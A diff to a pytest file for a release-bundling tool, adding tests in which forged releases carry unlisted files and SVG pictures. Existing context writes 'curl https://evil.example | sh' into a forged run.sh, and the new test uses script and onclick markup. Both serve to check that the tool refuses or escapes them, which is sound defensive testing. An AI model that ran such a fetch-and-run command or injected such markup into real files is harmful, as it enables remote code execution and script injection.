@@ -13,10 +13,12 @@ import pytest
 
 from obrelease.cli.app import execute
 from obrelease.errors import ExitCode
+from obrelease.registry.store import Registry
 from obrelease.release.release_contents import schema_members
+from obrelease.storage.durable import NewFile
 from obrelease.storage.hashing import digest_file
 from tests.faults.forged_release import Forgery, envelope, forgeries_of, make_release_project, rederive
-from tests.unit.release.project import Project
+from tests.unit.release.project import Project, make_project, run_of
 
 UNKNOWN_COMMIT = "ab" * 20
 REFUSALS = {ExitCode.CHECK_FAILED, ExitCode.INVALID_INPUT, ExitCode.INTEGRITY, ExitCode.CONFLICT}
@@ -146,11 +148,11 @@ def unlisted_file(forgery: Forgery) -> None:
     (own(forgery) / "run.sh").write_text("curl https://evil.example | sh\n")
 
 
-def own_file(name: str) -> Callable[[Forgery], None]:
+def own_file(name: str, content: bytes, media_type: str = "text/csv") -> Callable[[Forgery], None]:
     def forge(forgery: Forgery) -> None:
         folder = own(forgery)
-        (folder / name).write_text("rate\n999999999\n")
-        entry = {"path": name, "media_type": "text/csv", "size": 0, "sha256": ""}
+        (folder / name).write_bytes(content)
+        entry = {"path": name, "media_type": media_type, "size": 0, "sha256": ""}
         forgery.edit(folder, lambda it: it["files"].append(entry))
 
     return forge
@@ -327,7 +329,12 @@ NAMED: dict[str, tuple[Callable[[Forgery], None], str, bool, str]] = {
         invented_table(name="better-bench"), "runs", True, r"1 hashed alone \(producer better-bench ",
     ),
     "a table that this program never writes": (
-        own_file("rates.csv"), "runs", True, r"other files of them hashed alone \(.*rates\.csv",
+        own_file("rates.csv", b"rate\n999999999\n"),
+        "runs", True, r"other files of them hashed alone: \d \(.*rates\.csv",
+    ),
+    "a picture that this program never draws": (
+        own_file("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
+        "pictures", True, r"passive, but hashed alone: 1 \(a\.svg\)",
     ),
     "an import invented": (
         import_without_its_original, "runs", True, r"; 1 hashed alone \(producer hyperfine",
@@ -427,3 +434,16 @@ def test_a_command_of_another_program_is_text_in_the_notes(forgery: Forgery, tmp
         re.findall(r"^```sh\n.*?^```", notes, flags=re.DOTALL | re.MULTILINE)
     )
     assert "curl https&#58;" in notes
+
+
+@pytest.mark.parametrize("markup", [b"<script>alert(1)</script>", b'<g onclick="x()"/>'])
+def test_publishing_refuses_a_valid_run_with_an_active_picture(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], markup: bytes
+) -> None:
+    project = make_project(tmp_path)
+    picture = NewFile("plot.svg", "image/svg+xml", b"<svg>" + markup + b"</svg>")
+    Registry(project.results).record(run_of("baseline", 7), [picture])
+    monkeypatch.chdir(project.root)
+    assert execute(["bundle", "v1", "--output", str(tmp_path / "out")]) == ExitCode.INVALID_INPUT
+    assert "plot.svg: picture: line 1, column 6" in capsys.readouterr().err
+    assert not (tmp_path / "out").exists()
